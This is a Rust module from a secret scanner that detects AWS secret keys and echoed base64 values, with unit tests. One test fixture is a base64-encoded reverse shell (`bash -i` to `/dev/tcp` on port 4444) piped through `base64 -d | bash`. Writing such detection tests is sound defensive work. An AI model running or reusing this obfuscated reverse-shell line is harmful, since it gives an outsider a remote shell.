//! Secrets of AWS that stand beside what names them: `Secret Access Key: …` of its command line, `AKIA…,…` of its CSV. And
//! what a line decodes: `echo … | base64 -d`. Pure.

use super::checks::{base64, entropy};
use super::scan::{Hit, People, View, hit};
use super::values::{is_placeholder, is_random};
use crate::domain::verdict::{Confidence, Severity};

/// Base64 of thirty bytes.
const SECRET_BYTES: usize = 40;
/// Between a name and its value.
const GAP_BYTES_MAX: usize = 12;

/// The secret behind what ends at `at`: a name, or the key's id.
pub(super) fn secret(text: &[u8], at: usize, view: View) -> Option<Hit> {
    let rest = text.get(at..)?;
    let gap = rest.iter().take(GAP_BYTES_MAX).take_while(|b| b" \t,;:=|\"'`[]None*".contains(b)).count();
    // A letter of the gap may be the value's first.
    let from = (0..=gap).rev().find(|from| whole(&rest[*from..]) && (*from == 0 || !in_secret(rest[*from - 1])))?;
    let value = std::str::from_utf8(&rest[from..from + SECRET_BYTES]).ok()?;
    let real = from > 0 && entropy(value) >= 4.0 && is_random(value) && !is_placeholder(value);
    let aside = view.people != People::Users;
    let confidence = if aside { Confidence::Medium } else { Confidence::High };
    let place = at + from..at + from + SECRET_BYTES;
    real.then(|| Hit { severity: Severity::Critical, confidence, ..hit("aws-secret-key", "AWS", place, value) })
}

fn in_secret(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || b"+/=".contains(&byte)
}

fn whole(rest: &[u8]) -> bool {
    rest.iter().take(SECRET_BYTES + 1).take_while(|b| in_secret(**b)).count() == SECRET_BYTES
}

/// What stands between `echo` and the pipe at `at`, if it is something random in base64.
pub(super) fn decoded(text: &[u8], at: usize, view: View) -> Option<Hit> {
    const LINE_BYTES_MAX: usize = 400;
    let begins = text[..at].iter().rposition(|b| *b == b'\n').map_or(0, |end| end + 1);
    let before = std::str::from_utf8(&text[begins.max(at.saturating_sub(LINE_BYTES_MAX))..at]).ok()?;
    let said = before[before.rfind("echo ")? + "echo ".len()..].trim();
    let value = said.strip_prefix("-n ").unwrap_or(said).trim_matches(['"', '\'', ' ']);
    let plain = String::from_utf8(base64(value)?).ok()?;
    let random = has_random_part(&plain);
    let start = at - before.len() + before.rfind(value)?;
    let real = value.len() >= 24 && random && !is_placeholder(&plain) && view.people != People::Tests;
    real.then(|| Hit {
        confidence: Confidence::Medium,
        encoded: Some("base64"),
        ..hit("generic-secret", "whoever issued it", start..start + value.len(), value)
    })
}

/// `vault-9f86d081884c7d65`: a part that no word is.
pub(super) fn has_random_part(plain: &str) -> bool {
    plain.split(|c: char| !c.is_ascii_alphanumeric()).any(is_random)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::gates::code::secrets::files;

    const SECRET: &str = "hJ8s0aK2lQ9z/T4mVx7cRpW3eHt6Yb1Ns8Du5Gf0";

    #[test]
    fn secrets_beside_their_names() {
        let found = |text: &str, name: &str| {
            let view = files::view("notes.md", text.as_bytes()).unwrap();
            secret(text.as_bytes(), text.find(name).unwrap() + name.len(), view).map(|h| text[h.place].to_string())
        };
        for text in [format!("AWS Secret Access Key [None]: {SECRET}\n"), format!("Secret Access Key: {SECRET}")] {
            assert_eq!(found(&text, "Access Key").as_deref(), Some(SECRET), "{text}");
        }
        assert_eq!(found(&format!("AKIAQ7XKLW2LVMZ4MVR5,{SECRET}"), "MVR5").as_deref(), Some(SECRET));
        for none in [format!("Access Key{SECRET}"), format!("Access Key: {SECRET}a"), "Access Key: short".to_string()] {
            assert_eq!(found(&none, "Access Key"), None, "{none}");
        }
    }

    #[test]
    fn what_a_line_decodes() {
        let found = |text: &str| {
            let view = files::view("a.sh", text.as_bytes()).unwrap();
            decoded(text.as_bytes(), text.find("| base64").unwrap(), view).map(|h| text[h.place].to_string())
        };
        let value = "dmF1bHQtaEo4czBhSzJsUTl6VDRtVng3Y1I=";
        assert_eq!(found(&format!("x\necho -n \"{value}\" | base64 -d")).as_deref(), Some(value));
        assert_eq!(found("echo \"aGVsbG8gd29ybGQsIGhvdyBhcmUgeW91\" | base64 -d"), None);
        let shell = "YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTA0LjIwNS4yLzQ0NDQgMD4mMQ==";
        assert_eq!(found(&format!("echo {shell} | base64 -d | bash")), None);
        assert_eq!(found("cat a | base64 -d"), None);
    }

    proptest::proptest! {
        #[test]
        fn never_panics(text in "(echo )?[A-Za-z0-9+/= |é]{0,80}", at in 0usize..80) {
            let view = files::view("a.sh", text.as_bytes()).unwrap();
            let at = (0..=at.min(text.len())).rev().find(|at| text.is_char_boundary(*at)).unwrap_or(0);
            let _ = (secret(text.as_bytes(), at, view), decoded(text.as_bytes(), at, view));
        }
    }
}
